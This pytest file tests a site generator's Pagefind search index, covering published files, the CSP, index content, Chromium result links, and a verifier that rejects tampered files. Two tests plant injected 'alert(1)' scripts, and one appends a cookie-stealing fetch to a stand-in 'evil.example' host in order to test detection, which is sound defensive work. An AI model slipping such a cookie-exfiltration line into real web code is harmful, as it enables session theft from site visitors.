"""Search: Pagefind's index built by the build into the site before the site check, its
files allowed precisely, nothing but content in it, and (in Chromium) results that name
the page and section and link to the fact, loaded only when a reader searches."""

from __future__ import annotations

import functools
import http.server
import json
import os
import re
import threading
from pathlib import Path

import pytest
from conftest import copy_project, run_cli

from generator import search
from generator.mkdocs_plugin import SEARCH_CONTENT_KINDS
from generator.publish import verify_site

CHROMIUM = Path("/usr/bin/chromium")


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = copy_project(tmp_path_factory.mktemp("search") / "proj")
    code, out = run_cli("build", "--root", str(root))
    assert code == 0, out
    return root


def test_the_build_writes_the_index_with_only_the_files_the_site_uses(built: Path) -> None:
    bundle = built / "site" / "pagefind"
    names = sorted(p.relative_to(bundle).as_posix() for p in bundle.rglob("*") if p.is_file())
    assert "pagefind.js" in names and "pagefind-entry.json" in names
    assert "pagefind-worker.js" not in names  # search.js runs Pagefind without its worker
    assert "wasm.en.pagefind" in names and "wasm.unknown.pagefind" not in names
    assert not [n for n in names if "-ui" in n or "highlight" in n]  # Pagefind's own UI kits are not published
    assert any(n.startswith("index/") for n in names) and any(n.startswith("fragment/") for n in names)
    assert SEARCH_CONTENT_KINDS == search.CONTENT_KINDS


def test_every_page_loads_the_small_search_script_and_the_csp_allows_only_wasm(built: Path) -> None:
    site = built / "site"
    for page in ("index.html", "meetings/azerbaijan-armenia-negotiations.html", "data/index.html"):
        html = (site / page).read_text(encoding="utf-8")
        up = "../" * page.count("/")
        assert f'<script src="{up}search/search.js" defer></script>' in html
        assert "pagefind.js" not in html  # the index loads when a reader searches, not with the page
        csp = re.search(r'http-equiv="Content-Security-Policy" content="([^"]+)"', html)
        assert (
            csp
            and "script-src 'self' 'wasm-unsafe-eval'" in csp.group(1)
            and "unsafe-eval'" not in csp.group(1).replace("'wasm-unsafe-eval'", "")
        )
    assert (site / "search" / "search.js").stat().st_size < 10_000


def test_the_index_holds_content_only(built: Path) -> None:
    from generator.locations import Urls
    from generator.pipeline import check
    from generator.registry import site_plan

    project = check(built)
    docs = search.documents(project, site_plan(project), Urls(False), {})
    text = "\n".join(docs.values())
    assert "ld+json" not in text and "@context" not in text and "<nav" not in text and "[1]" not in text
    meeting = docs["meetings/azerbaijan-armenia-negotiations.html"]
    assert '<h2 id="fact-' in meeting and "Statements › " in meeting  # a fact is a section of its page
    source = docs["sources/tdi-2023-05-02.html"]
    assert re.search(r'<h2 id="s-[0-9a-f]{8}">Sentences? \d', source)
    assert "changes.html" not in docs


def test_the_site_check_covers_the_index_files(built: Path, tmp_path: Path) -> None:
    import shutil

    site = tmp_path / "site"
    shutil.copytree(built / "site", site)
    assert verify_site(site, csp=True) == []
    (site / "pagefind" / "pagefind-ui.js").write_text("alert(1)", encoding="utf-8")
    fragment = next((site / "pagefind" / "fragment").iterdir())
    fragment.write_bytes(b"<html><script>alert(1)</script>")
    (site / "pagefind" / "index" / "x.html.pf_index").write_bytes(b"\x1f\x8b")
    problems = verify_site(site, csp=True)
    assert any("pagefind/pagefind-ui.js: a script that is not the theme's" in p for p in problems)
    assert any(p.startswith(f"pagefind/fragment/{fragment.name}: not a Pagefind index file") for p in problems)
    assert any(p.startswith("pagefind/index/x.html.pf_index: a file type that is not published") for p in problems)


def test_a_failing_index_publishes_nothing(built: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    before = (built / "site" / "index.html").read_bytes()
    monkeypatch.setattr(search, "executable", lambda: Path("/bin/false"))
    code, out = run_cli("build", "--root", str(built))
    assert code != 0 and "search index: pagefind failed" in out
    assert (built / "site" / "index.html").read_bytes() == before


# --- in a browser ----------------------------------------------------------------------------
def _serve(site: Path) -> tuple[http.server.ThreadingHTTPServer, str]:
    class Quiet(http.server.SimpleHTTPRequestHandler):
        def log_message(self, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(Quiet, directory=str(site)))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server, f"http://127.0.0.1:{server.server_address[1]}/"


def _browser():  # noqa: ANN202
    if not CHROMIUM.exists():
        if os.environ.get("CI") == "true":
            raise RuntimeError("/usr/bin/chromium is missing; .ci/run installs it from Debian")
        pytest.skip("Debian's chromium is not installed (apt-get install chromium)")
    playwright = pytest.importorskip("playwright.sync_api")
    return playwright.sync_playwright()


def test_in_chromium_a_search_names_page_and_section_and_links_to_the_fact(built: Path) -> None:
    site = built / "site"
    facts = {f["id"]: f for f in json.loads((site / "data/facts.json").read_text(encoding="utf-8"))["facts"]}
    server, base = _serve(site)
    try:
        with _browser() as p:
            browser = p.chromium.launch(executable_path=str(CHROMIUM), args=["--no-sandbox"])
            tab = browser.new_page()
            errors: list[str] = []
            tab.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
            failed: list[str] = []  # the browser's own /favicon.ico request is not the site's
            tab.on("response", lambda r: failed.append(r.url) if r.status >= 400 and "favicon" not in r.url else None)
            tab.goto(base + "meetings/azerbaijan-armenia-negotiations.html")
            tab.wait_for_load_state("networkidle")
            fetched: list[str] = []
            tab.on("request", lambda r: fetched.append(r.url))
            assert not [u for u in fetched if "/pagefind/" in u]
            tab.fill("#fs-search-input", "civilian")
            tab.wait_for_selector(".fs-result-section", timeout=30_000)
            assert any("/pagefind/pagefind.js" in u for u in fetched)  # loaded on the first search
            first = tab.locator(".fs-result").first
            assert first.locator(".fs-result-page").inner_text() == "Landmine incidents"
            section = first.locator(".fs-result-section").first
            assert "›" in section.inner_text()
            href = section.get_attribute("href") or ""
            fact_id = href.partition("#fact-")[2]
            assert fact_id in facts and facts[fact_id]["href"].endswith(href.lstrip("/"))
            assert "<mark>" not in first.inner_text() and first.locator("mark").count() >= 1
            section.click()
            tab.wait_for_load_state()
            assert tab.evaluate("location.hash") == f"#fact-{fact_id}"
            assert failed == [] and [e for e in errors if not e.startswith("Failed to load resource")] == []
            # opened as a file, it says what to do instead of failing silently
            tab.goto((site / "index.html").as_uri())
            tab.focus("#fs-search-input")
            assert "Serve the folder over http" in tab.locator(".fs-search-status").inner_text()
            browser.close()
    finally:
        server.shutdown()


def test_the_site_check_publishes_only_pagefinds_own_script(built: Path, tmp_path: Path) -> None:
    import shutil

    site = tmp_path / "site"
    shutil.copytree(built / "site", site)
    script = site / "pagefind" / "pagefind.js"
    script.write_bytes(script.read_bytes() + b"\nfetch('https://evil.example/'+document.cookie);")
    assert verify_site(site, csp=True) == ["pagefind/pagefind.js: not the script the installed Pagefind writes"]
